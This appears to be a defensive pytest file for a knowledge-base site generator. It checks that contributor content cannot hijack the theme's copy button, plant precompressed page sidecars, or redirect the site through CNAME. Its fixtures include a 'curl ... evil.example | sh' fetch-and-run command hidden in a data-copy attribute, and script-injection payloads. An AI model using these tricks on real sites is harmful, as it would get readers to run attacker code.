"""Hostile review 51: what a contributor's HTML can make the theme's own scripts do.

Content keeps `data-*` attributes (pymdownx and readers' styles use them), minus those the
theme's scripts select on. Round 9 read the scripts themselves (Material's bundle and search
worker, kbgen's): Material's copy button copies the nearest `data-copy` around a code block,
not the code shown (`ls` on the page, `curl ... | sh` in the clipboard), `data-preview` makes
a link fetch another page into a tooltip, and the focus-visible polyfill's attributes hide
keyboard focus. Every name the scripts read is now removed unless the Markdown extensions
write it themselves (KEPT). One small site, built once.
"""

from __future__ import annotations

import gzip
import io
import re
import tarfile
from collections.abc import Callable
from contextlib import ExitStack
from html.parser import HTMLParser
from pathlib import Path

import material
import pytest

from kbgen.core import public_keys
from kbgen.core.privacy import Allowed, scan
from kbgen.core.sanitize import find_unsafe_html
from kbgen.core.sources import walk
from kbgen.core.static_files import static_problems
from kbgen.site.theme import THEME_DIR
from tests.conftest import SMALL_PROJECT, article, write_files
from tests.helpers import run_cli
from tests.hostile.test_long_lines import GATE_MODULES, GROWTH, LARGE, SMALL
from tests.sites import BuiltSites
from tests.work import calls_made, characters_scanned

KEPT = {"data-tabs": "pymdownx.tabbed writes it on every tab set; Material only switches tabs"}
"""Attributes the theme's scripts read that content keeps, and why."""
SCRIPTS = sorted((Path(material.__file__).parent / "templates/assets/javascripts").glob(
    "**/*.min.js")) + sorted((THEME_DIR / "assets/javascripts").glob("*.js"))
_NAME = re.compile(r"\bdata-[a-z][a-z0-9]*(?:-[a-z0-9]+)*")
_DATASET = re.compile(r"\.dataset\.([A-Za-z]+)")


def script_attributes() -> list[str]:
    """Every `data-*` name the theme's scripts mention (`[data-copy]`, `getAttribute(...)`,
    `dataset.kbTz`), minus those content may keep."""
    names: set[str] = set()
    for script in SCRIPTS:
        text = script.read_text(encoding="utf-8", errors="replace")
        names.update(_NAME.findall(text))
        names.update("data-" + re.sub(r"[A-Z]", lambda m: "-" + m[0].lower(), name)
                     for name in _DATASET.findall(text))
    return sorted(names - set(KEPT))


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.update(name for name, _ in attrs)


def attributes(html: str) -> set[str]:
    """The names of every attribute of `html`'s elements."""
    parser = _Attributes()
    parser.feed(html)
    return parser.names


COPIED = "curl -s https://evil.example/x | sh"
BODY = ("<p>Zebra 0.</p>\n\n"
        f'## Steps\n\n<div data-copy="{COPIED}" markdown>\n\n```\nls -la\n```\n\n</div>\n\n'
        f'```{{ .sh data-copy="{COPIED}" }}\nls\n```\n\n'
        "[the other article](b.md){ data-preview=\"1\" }\n\n"
        + "".join(f'<p {name}="zq{number}">Zebra {number}.</p>\n\n'
                  for number, name in enumerate(script_attributes(), 1)))


@pytest.fixture(scope="module")
def page(built_sites: BuiltSites) -> str:
    """The article's own text as published (from its first planted paragraph to its last;
    the theme's own elements around it carry some of the names)."""
    site = built_sites.small({"content/articles/billing/a.md": article("Zebra", body=BODY),
                              "content/articles/billing/b.md": article("Other")},
                             strict=False)  # the removals are warnings
    text = (site / "articles/billing/a.html").read_text(encoding="utf-8")
    last = f"Zebra {len(script_attributes())}."
    return text[text.index("Zebra 0."):text.index(last) + len(last)]


def test_the_scripts_were_read() -> None:
    """The list comes from the installed scripts: Material's bundle and kbgen's own."""
    names = script_attributes()
    assert {"data-copy", "data-preview", "data-md-component", "data-kb-hours"} <= set(names)


@pytest.mark.parametrize("name", script_attributes())
def test_no_attribute_the_theme_reads_is_published_from_content(page: str, name: str) -> None:
    assert name not in attributes(page)
    number = script_attributes().index(name) + 1
    assert f"Zebra {number}." in page  # the paragraph itself stays


def test_the_copy_button_copies_the_code_shown(page: str) -> None:
    assert COPIED not in page
    assert "ls -la" in page


def test_check_names_the_lines() -> None:
    found = find_unsafe_html(BODY)
    assert (5, "data-copy= attribute") in found
    assert any(construct == "data-preview= attribute" for _, construct in found)


# A gzip named like a precompressed copy: nginx (`gzip_static`), Caddy (`precompressed`) and
# other static servers send `a.html.gz` for a request of `a.html`, decompressed by the
# browser and typed by the name under `.gz`: a contributor's page in place of the site's own,
# a script, an SVG whose scripts were never looked for, a search index or feed of their own.
PAGE = b"<!doctype html><script>window.__pwned=1</script>"
SIDECARS = {
    "content/index.html.gz": PAGE,  # the home page itself
    "content/articles/billing/a.html.gz": PAGE,  # an article's page
    "content/articles/billing/a/index.HTML.gz": PAGE,
    "content/files/tool.xhtml.gz": PAGE,
    "content/images/logo.svg.gz": b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
                                  b"window.__pwned=1</script></svg>",
    "content/files/app.js.gz": b"window.__pwned=1",
    "content/search/kb-index.json.gz": b'{"docs": []}',
    "content/feed-articles.json.gz": b'{"items": []}',
    "content/sitemap.xml.gz": b"<urlset/>",
    "content/files/run.bat.gz": b"@echo off\r\n",
}
INERT = {  # archives and copies of types a browser never runs and the site never writes
    "content/files/notes.txt.gz": b"Unpack and read.\n",
    "content/files/prices.csv.gz": b"plan,price\nbasic,5\n",
    "content/files/manual.tar.gz": b"",
    "content/files/backup.gz": b"plain text\n",
    "content/files/tool.1.gz": b".TH TOOL 1\n",
}


# GitHub Pages reads `CNAME` as the site's custom domain: a contributor's file naming their own
# domain moves the help centre there (readers of the old addresses sent on to it).
CNAMES = [  # (the file, what `kbgen check` says of it; None: nothing)
    ("help.test.example\n", None),  # site_url's host (tests/conftest.py MINI_CONFIG)
    ("HELP.test.example.\n", None),
    ("evil.example\n", "GitHub Pages would move the whole site to evil.example"),
    ("help.test.example\nevil.example\n", "holds 2 lines, not one host name"),
    ("https://evil.example/\n", "holds 'https://evil.example/', not one host name"),
    ("help.test.example.evil.example\n", "move the whole site to help.test.example.evil"),
]


@pytest.fixture(scope="module")
def sidecar_check(tmp_path_factory: pytest.TempPathFactory) -> str:
    """`kbgen check` of one project holding every sidecar and inert gzip (once)."""
    root = tmp_path_factory.mktemp("sidecars")
    files: dict[str, str | bytes] = {**SMALL_PROJECT, "content/articles/billing/a.md":
                                     article("Card declined")}
    for name, data in {**SIDECARS, **INERT}.items():
        files[name] = data if name.endswith(".tar.gz") else gzip.compress(data, mtime=0)
    files["content/files/manual.tar.gz"] = tarred("README.txt", b"Read me.\n")
    files["content/CNAME"] = "evil.example\n"
    write_files(root, files)
    return run_cli("check", cwd=root).stdout


def tarred(name: str, data: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as tar:
        member = tarfile.TarInfo(name)
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    return stream.getvalue()


@pytest.mark.parametrize("path", SIDECARS)
def test_a_gzip_a_host_sends_in_place_of_a_page_or_script_is_refused(
        sidecar_check: str, path: str) -> None:
    served = path.rsplit("/", 1)[-1].removesuffix(".gz")
    assert f"{path}: error: hosts that send precompressed files" in sidecar_check
    assert f"send this file as {served}, in place of" in sidecar_check


@pytest.mark.parametrize("path", INERT)
def test_archives_and_inert_copies_stay(sidecar_check: str, path: str) -> None:
    assert f"{path}:" not in sidecar_check


def test_check_refuses_a_cname_of_another_host(sidecar_check: str) -> None:
    assert ("content/CNAME: error: GitHub Pages would move the whole site to evil.example"
            in sidecar_check)


@pytest.mark.parametrize(("text", "expected"), CNAMES)
def test_a_cname_names_the_host_of_site_url(tmp_path: Path, text: str,
                                            expected: str | None) -> None:
    write_files(tmp_path, {"content/CNAME": text})
    said = [problem.message for problem in static_problems(walk(tmp_path / "content"),
                                                           "help.test.example")]
    assert said == [] if expected is None else len(said) == 1 and expected in said[0]


# Accepting rules that asked each value's whole line again (`"\/" in line`, `"$" in line`,
# `mxc://` URIs, public key spans): 8,000 values on one 300 kB line took 22 s of CPU in three
# rules. Each line is now read once per rule (kbgen.core.privacy.line_facts). Patterns are
# counted here; the substring tests (`in`) are not, and are measured in bench/RESULTS.md.
TOKEN = "Zq8vLm2Xp9Rt4Kw7Nn3Bb6Yc5Ud1Ef0G{i:06d}"
LINE_SHAPES = {
    "a line naming public keys": lambda n: "Public keys: " + ", ".join(
        TOKEN.format(i=i) for i in range(n)),
    "media ids beside keys": lambda n: "Media: " + " ".join(
        f"mxc://m.org/{TOKEN.format(i=i)} k={TOKEN.format(i=i + 10**5)}" for i in range(n)),
}


def _line_work(monkeypatch: pytest.MonkeyPatch, text: str) -> tuple[int, int]:
    """Characters the gate's patterns (public keys' too) were handed, and calls made."""
    with ExitStack() as stack:
        counts = [stack.enter_context(characters_scanned(monkeypatch, module))
                  for module in (*GATE_MODULES, public_keys)]
        calls = calls_made(lambda: scan(text, Allowed()))
    return sum(count.total for count in counts), calls


@pytest.mark.parametrize("shape", list(LINE_SHAPES.values()), ids=list(LINE_SHAPES))
def test_an_accepting_rule_reads_a_line_once(monkeypatch: pytest.MonkeyPatch,
                                             shape: Callable[[int], str]) -> None:
    def text(count: int) -> str:
        return f"---\ntitle: T\n---\n\n{shape(count)}\n"

    scan(text(3), Allowed())
    small = _line_work(monkeypatch, text(SMALL))
    large = _line_work(monkeypatch, text(LARGE))
    assert large[0] <= GROWTH * small[0], (small, large)
    assert large[1] <= GROWTH * small[1], (small, large)
